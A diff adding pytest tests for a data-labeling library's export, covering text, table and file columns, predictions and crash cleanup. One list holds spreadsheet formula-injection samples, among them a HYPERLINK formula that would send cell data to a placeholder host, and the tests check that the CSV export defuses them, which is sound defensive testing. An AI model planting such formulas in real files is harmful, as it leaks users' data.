@@ -2,6 +2,8 @@
 
 import json
 import shutil
+import subprocess
+import sys
 
 import numpy as np
 import pandas as pd
@@ -12,6 +14,7 @@ import nblabel as nb
 from nblabel.log import exporting as export
 from nblabel.log.exporting import export_labels
 from nblabel.pool.pictures import MediaError
+from nblabel.system.files import whole
 from tests.samples import blobs
 
 IDS = ["plain", 'quote"s and, commas', "línea\nnueva", "长靴 👢", "<b>", "=1+1"]
@@ -345,3 +348,182 @@ def test_no_labels_in_every_format(arrays, tmp_path, kind):
     fresh = nb.Session(arrays.pool, NAMES)
     fresh.export(tmp_path / "out", format=kind)
     assert (tmp_path / "out").exists()
+
+
+# what the labels are about
+
+
+def test_texts_stand_beside_their_labels(tmp_path):
+    texts = ["great film", "what a bore, really", "so so"]
+    session = nb.Session(nb.Pool(texts=texts), ["p", "n"])
+    session.tell([0, 1], ["p", "n"])
+    session.export(tmp_path / "labels.csv")
+    back = pd.read_csv(tmp_path / "labels.csv")
+    assert back["text"].tolist() == ["great film", "what a bore, really"]
+    session.export(tmp_path / "labels.csv", columns=["text", "label"])
+    assert (tmp_path / "labels.csv").read_text("utf-8").splitlines()[:2] == [
+        "text,label",
+        "great film,p",
+    ]
+
+
+@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
+def test_rows_stand_beside_their_labels(tmp_path, ending):
+    if ending == "parquet":
+        pytest.importorskip("pyarrow")
+    rows = pd.DataFrame(
+        {
+            "label": [10, 20, 30],
+            "mixed": [1, "a", None],
+            "day": pd.date_range("2024-01-01", periods=3),
+            "kind": pd.Categorical(["x", "y", "x"]),
+            "yes": [True, False, True],
+        }
+    )
+    session = nb.Session(nb.Pool(table=rows), ["p", "n"])
+    session.tell([2, 0], ["p", "n"])
+    path = tmp_path / f"labels.{ending}"
+    session.export(path)
+    read = {
+        "csv": pd.read_csv,
+        "jsonl": lambda path: pd.read_json(path, lines=True, dtype=False),
+        "parquet": pd.read_parquet,
+    }
+    back = read[ending](path)
+    assert back.columns.tolist()[8:] == ["table.label", "mixed", "day", "kind", "yes"]
+    assert back["label"].tolist() == ["p", "n"]
+    assert back["table.label"].tolist() == [30, 10]
+    assert back["kind"].tolist() == ["x", "x"]
+    assert [str(day)[:10] for day in back["day"]] == ["2024-01-03", "2024-01-01"]
+
+
+def test_files_stand_beside_their_labels(files, tmp_path):
+    files.export(tmp_path / "labels.csv")
+    back = pd.read_csv(tmp_path / "labels.csv")
+    paths = [str(files.pool.media.paths[index]) for index in back["index"]]
+    assert back["file"].tolist() == paths
+
+
+@pytest.mark.parametrize(
+    ("options", "message"),
+    [
+        ({"columns": ["id", "Label"]}, r"no column 'Label'; did you mean 'label'\?"),
+        ({"columns": ["id", "weight"]}, "no column 'weight'; there are id, index"),
+        ({"columns": "id"}, "single text 'id'; pass a list"),
+        ({"separator": "|"}, "separator is '|'; choose one of"),
+        ({"format": "folders", "columns": ["id"]}, "columns= chooses those of a table"),
+    ],
+)
+def test_choices_that_cannot_be(arrays, tmp_path, options, message):
+    with pytest.raises(ValueError, match=message):
+        arrays.export(tmp_path / "labels.csv", **options)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_predictions_of_the_rest(arrays, tmp_path):
+    arrays.flag(6)
+    arrays.export(tmp_path / "labels.csv", predictions=True)
+    back = pd.read_csv(tmp_path / "labels.csv")
+    rest = back[back["source"] == "prediction"]
+    assert rest["index"].tolist() == [7]  # the flagged one is set aside
+    assert rest["label"].tolist() == [arrays.predict()[7]]
+    assert rest["probability"].tolist() == [pytest.approx(arrays.predict_proba()[7].max())]
+    assert rest[["annotator", "time", "event"]].isna().all(axis=None)
+    assert len(back) == 7
+    fresh = nb.Session(arrays.pool, NAMES)
+    report = fresh.import_labels(tmp_path / "labels.csv")
+    assert (report.n_imported, report.n_by_model) == (4, 3)  # no prediction becomes an answer
+    with pytest.raises(ValueError, match="nothing was learned yet.*label some items"):
+        nb.Session(arrays.pool, NAMES).export(tmp_path / "none.csv", predictions=True)
+
+
+def test_predictions_in_pictures(arrays, tmp_path):
+    arrays.export(tmp_path / "labels.json", predictions=True)
+    told = json.loads((tmp_path / "labels.json").read_text())["annotations"]
+    assert [one["source"] for one in told].count("prediction") == 2
+
+
+LIVE = [
+    '=HYPERLINK("http://x/?"&A2).jpg',
+    "+1",
+    "-5",
+    "@x",
+    "\t=1",
+    " =1",
+    "'=1",
+    "＝1",
+    "plain",
+    "it's",
+    "'quoted'",
+    "007",
+]
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_nothing_in_a_spreadsheet_is_live_and_it_is_read_back(tmp_path, separator):
+    classes = ["café", "=1+1", "-"]
+    session = nb.Session(nb.Pool(embeddings=blobs(len(LIVE)), ids=LIVE), classes, annotator="=me()")
+    session.tell(range(len(LIVE)), [classes[number % 3] for number in range(len(LIVE))])
+    path = tmp_path / "labels.csv"
+    session.export(path, "excel-csv", separator=separator)
+    assert path.read_bytes().startswith(b"\xef\xbb\xbfid")
+    back = pd.read_csv(path, sep=separator, dtype=str, keep_default_na=False)
+    texts = back.to_numpy().ravel().tolist()
+    assert not [text for text in texts if text.lstrip()[:1] in tuple("=+-@＝")]
+    fresh = nb.Session(session.pool, classes)
+    assert fresh.import_labels(path).n_imported == len(LIVE)
+    assert (fresh.y == session.y).all()
+
+
+def test_names_of_columns_are_not_live_either(tmp_path):
+    rows = pd.DataFrame({"=cmd()": ["=1", None], "n": [-1.5, 2]})
+    session = nb.Session(nb.Pool(table=rows), ["a", "b"])
+    session.tell([0, 1], ["a", "b"])
+    session.export(tmp_path / "labels.csv", "excel-csv", columns=["id", "label", "=cmd()", "n"])
+    text = (tmp_path / "labels.csv").read_text("utf-8-sig")
+    assert text.splitlines() == ["id,label,'=cmd(),n", "0,a,'=1,-1.5", "1,b,,2.0"]
+
+
+@pytest.mark.parametrize(("orientation", "size"), [(1, (60, 40)), (3, (60, 40)), (6, (40, 60))])
+def test_sizes_are_those_that_are_shown(tmp_path, orientation, size):
+    exif = Image.Exif()
+    exif[0x0112] = orientation
+    (tmp_path / "photos").mkdir()
+    Image.new("RGB", (60, 40)).save(tmp_path / "photos" / "a.jpg", exif=exif)
+    pool = nb.Pool.from_folder(tmp_path / "photos", embeddings=blobs(1))
+    session = nb.Session(pool, ["a", "b"])
+    session.tell(0, "a")
+    session.export(tmp_path / "labels.json")
+    image = json.loads((tmp_path / "labels.json").read_text())["images"][0]
+    assert (image["width"], image["height"]) == size == session.pool.image(0).shape[1::-1]
+
+
+# what a killed process left
+
+
+KILLED = """
+import os, sys
+from pathlib import Path
+from nblabel.system.files import whole
+target = Path(sys.argv[1])
+with whole(target) as part:
+    part.mkdir() if len(sys.argv) > 2 else part.touch()
+    os._exit(9)
+"""
+
+
+@pytest.mark.parametrize("folder", [False, True])
+def test_what_a_killed_export_left_is_cleared_by_the_next(arrays, tmp_path, folder):
+    target = tmp_path / ("out" if folder else "labels.csv")
+    arguments = [sys.executable, "-c", KILLED, str(target), *(["folder"] if folder else [])]
+    assert subprocess.run(arguments, check=False).returncode == 9
+    (left,) = tmp_path.iterdir()
+    assert left.name.startswith(".")  # not seen
+    arrays.export(tmp_path / "other.csv")
+    assert left.exists()  # of another target
+    with whole(tmp_path / "labels.csv") as part:  # one that this process is writing meanwhile
+        part.touch()
+        arrays.export(target, format="folders" if folder else None)
+        assert part.exists()
+        assert not left.exists()
+    assert {path.name for path in tmp_path.iterdir()} == {"other.csv", "labels.csv", target.name}
